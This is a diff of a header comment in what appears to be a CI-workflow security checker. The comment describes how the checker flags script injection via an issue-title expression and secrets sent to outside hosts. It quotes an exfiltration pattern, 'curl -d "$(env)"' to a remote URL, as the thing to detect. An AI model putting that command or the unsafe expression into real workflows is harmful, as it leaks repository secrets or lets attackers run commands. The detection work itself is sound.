@@ -1,7 +1,7 @@
 /** The shell steps of a CI workflow (`run:` lines and blocks): an attacker-controlled event field expanded into
  * the script (`${{ github.event.issue.title }}`: script injection, the fix is an `env:` variable), and a
  * repository secret sent in the same step to a host outside the allowed list, in the script or through the step's
- * `env:` mapping (`env: {T: ${{ secrets.X }}}` with `curl -d "$(env)" https://…`). */
+ * `env:` mapping (`env: {T: ${{ secrets.X }}}` with `curl -d "$(env)" https://...`). */
 
 import type { ShieldEnvironment } from "../environment.ts";
 import type { Findings } from "./findings.ts";
